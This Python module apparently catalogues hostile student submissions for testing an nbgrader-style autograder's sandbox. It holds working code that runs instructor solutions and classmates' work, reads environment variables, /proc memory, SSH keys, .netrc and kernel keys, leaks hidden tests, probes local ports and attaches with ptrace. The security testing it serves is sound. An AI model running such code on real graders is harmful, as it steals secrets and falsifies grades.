"""Theft: reading what a student may not see, for points or to carry it away."""

from hostile.catalogue.helpers import in_range
from hostile.model import PORTS, Family

add = Family("theft")

_USE_SOLUTIONS = """
import json, re
def answers(path):
    found = {}
    for cell in json.loads(path.read_text())["cells"]:
        if cell["cell_type"] == "code" and not cell["metadata"].get("nbgrader", {}).get("grade"):
            found[len(found)] = "".join(cell["source"])
    return found
def use(path):
    for text in answers(path).values():
        exec(text, globals())
"""
_KEEP = {
    f"q_{name}": "pass"
    for name in ("mean", "region", "best", "account", "model", "drop", "age", "twice")
}

add(
    "source_solutions",
    """Finds the instructor's notebook in `source/` and runs the solutions that it holds. A success:
    full points for no work.""",
    in_range("") + _USE_SOLUTIONS + 'use(course / "source/target/target.ipynb")\n',
    answers=_KEEP,
)
add(
    "source_by_relative_path",
    """Climbs up from the working directory to `source/target/target.ipynb` and runs its solutions.
    A success: full points for no work.""",
    "from pathlib import Path\n"
    + _USE_SOLUTIONS
    + """
for depth in range(6):
    path = Path("../" * depth) / "source/target/target.ipynb"
    if path.is_file():
        use(path)
        break
else:
    raise LookupError("no source here")
""",
    answers=_KEEP,
)
add(
    "classmate_solutions",
    """Reads the submissions of the classmates and runs them. A success: their
    points, or their text in its output.""",
    in_range("")
    + _USE_SOLUTIONS
    + """
for path in sorted(course.glob("submitted/honest-*/target/target.ipynb")):
    use(path)
    print(path.read_text()[:20000])
    print(answers(path))
""",
    answers=_KEEP,
)
add(
    "gradebook_answers",
    """Reads the test cells from `gradebook.db` and prints them. A success: hidden tests in what the
    student gets back.""",
    in_range("""
    import sqlite3
    with sqlite3.connect(f"file:{course / 'gradebook.db'}?mode=ro", uri=True) as database:
        for row in database.execute("select source from source_cell"):
            print(row[0])
    """),
)
add(
    "environment",
    """Prints all environment variables. A success: the instructor's token in its output.""",
    "import os\nprint(dict(os.environ))\nprint(os.popen('env').read())",
)
add(
    "environment_in_assertion",
    """Raises an error that carries the environment out of a test cell. A success: the instructor's
    token on the feedback page.""",
    "import os",
    answers={"q_mean": "def mean_price(prices): raise AssertionError(str(dict(os.environ)))"},
)
add(
    "proc_of_others",
    """Reads `environ`, `cmdline` and open files of all processes in `/proc`. A success: secrets of
    the grader in its output.""",
    """
    import glob
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            text = open(path, "rb").read().decode(errors="replace")
        except OSError:
            continue
        if "SECRET" in text or "grader-range" in text:
            print(path, text)
    """,
)
add(
    "proc_memory_of_others",
    """Reads the memory of its parent and of processes of the same user through `/proc/*/mem`. A
    success: hidden tests or secrets in its output.""",
    """
    import os, re, time
    stop = time.monotonic() + 20
    def scan(pid):
        for line in open(f"/proc/{pid}/maps"):
            span = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if not span or time.monotonic() > stop:
                continue
            start, end = (int(text, 16) for text in span.groups())
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(start)
                text = memory.read(min(end - start, 50_000_000))
            for found in re.findall(rb"(?:HIDDEN|SECRET|CLASSMATE)-CAN[A]RY[^\\x00]{0,60}", text)[:3]:
                print(pid, found)
    for pid in [os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))]:
        if pid == os.getpid():
            continue
        try:
            scan(pid)
        except (OSError, ValueError, OverflowError):
            pass
    """,
    alone=True,
)
add(
    "home_files",
    """Reads keys and passwords in the instructor's home. A success: a secret in its output.""",
    in_range("""
    for name in ("secrets.txt", ".ssh/id_range", ".netrc", ".bashrc"):
        print(name, (around / "home" / name).read_text())
    """),
)
add(
    "connection_files",
    """Reads the connection files of kernels, with their keys, and talks to them. A success: what
    other kernels answer in its output, or a kernel that it stopped.""",
    in_range("""
    import json
    from ipykernel import get_connection_file
    own = get_connection_file()
    folders = [around / "home/.local/share/jupyter/runtime", Path(tempfile.gettempdir())]
    for folder in folders:
        for path in [*folder.glob("kernel-*.json"), *folder.glob("gr*/k*.json")]:
            try:
                key = json.loads(path.read_text())["key"]
                print("read a key", "SECRET-CAN" + "ARY-7f3a" if str(path) != own else "of mine")
            except (OSError, ValueError, KeyError) as error:
                print(type(error).__name__)
    """),
)
add(
    "hidden_tests_printed",
    """Prints the source of the running test from IPython's history while it runs, and again
    afterwards. A success: hidden tests in what the student gets back.""",
    """
    seen = []
    def look():
        shell = get_ipython()
        found = str(shell.user_ns.get("In", [""])[-1]) + str(shell.user_ns.get("_ih", ""))
        seen.append(found)
        print(found)
    """,
    answers={"q_mean": "def mean_price(prices):\n    look()\n    return 1.5"},
    after={"t_mean": "print(seen)\nlook()"},
)
add(
    "hidden_inputs_printed",
    """Prints, keeps and later prints again the arguments with which hidden tests call it. A
    success: hidden inputs in what the student gets back.""",
    "seen = []",
    answers={
        "q_age": """
        def parse_age(text):
            print("called with", text)
            seen.append(text)
            if text == "12":
                return 12
            raise ValueError(f"cannot read {text}")
        """,
        "q_region": """
        def by_region(sales):
            seen.append(sales.to_csv())
            print(sales)
            return sales
        """,
    },
    after={"t_age": "print(seen)", "t_region": "print(seen)"},
)
add(
    "hidden_inputs_in_errors",
    """Raises errors whose text holds the hidden inputs, among them errors that look like the
    instructor's own messages. A success: hidden inputs on the feedback page.""",
    answers={
        "q_age": """
        def parse_age(text):
            if text == "12":
                return 12
            raise AssertionError(f"The input was {text}")
        """,
        "q_region": """
        def by_region(sales):
            if len(sales) == 3 and "b" in set(sales["region"]):
                import pandas as pd
                return pd.DataFrame({"region": ["a", "b"], "total": [2.0, 4.0]})
            raise RuntimeError("Seen: " + sales.to_csv())
        """,
    },
)
add(
    "hidden_inputs_in_files",
    """Writes hidden inputs to files in its working directory, and prints them from a later cell. A
    success: hidden inputs in what the student gets back.""",
    answers={
        "q_age": """
        def parse_age(text):
            with open("seen.txt", "a") as file:
                file.write(text + "\\n")
            if text == "12":
                return 12
            raise ValueError
        """
    },
    after={"t_age": "print(open('seen.txt').read())"},
)
add(
    "hidden_inputs_in_repr",
    """Answers with objects whose `repr` is the hidden input, so that a failed comparison shows it.
    A success: hidden inputs on the feedback page.""",
    """
    class Shows:
        def __init__(self, text): self.text = text
        def __repr__(self): return f"<b>{self.text}</b>"
        __str__ = __repr__
    """,
    answers={
        "q_region": """
        def by_region(sales):
            import pandas as pd
            if len(sales) == 3 and "b" in set(sales["region"]):
                return pd.DataFrame({"region": ["a", "b"], "total": [2.0, 4.0]})
            return pd.DataFrame({"region": [Shows(sales.to_csv())] * 2, "total": [7.25, 4721.5]})
        """
    },
)
add(
    "local_ports",
    """Connects to ports of this machine and sends what it knows. A success: a server on the machine
    hears it.""",
    f"""
    import socket
    for port in range({PORTS.start}, {PORTS.stop}):
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2) as line:
                line.sendall(b"hello from a submission")
                print("connected to", port)
        except OSError as error:
            print(port, type(error).__name__)
    """,
)
add(
    "local_ports_by_child",
    """Lets a child process with a shell and another Python connect to ports of this machine. A
    success: a server on the machine hears it.""",
    f"""
    import subprocess, sys
    code = "import socket; socket.create_connection(('127.0.0.1', {PORTS.start}), 2).sendall(b'child')"
    print(subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=20))
    """,
)
add(
    "ancestors_by_ptrace",
    """Attaches to its parent with `ptrace` and reads its registers. A success: a trace of the
    parent, which could then be made to write anything.""",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    if parent > 1 and libc.ptrace(16, parent, 0, 0) == 0:
        libc.ptrace(17, parent, 0, 0)
        print("attached to the parent: SECRET-CAN" + "ARY-7f3a")
    else:
        print("refused", ctypes.get_errno())
    """,
)
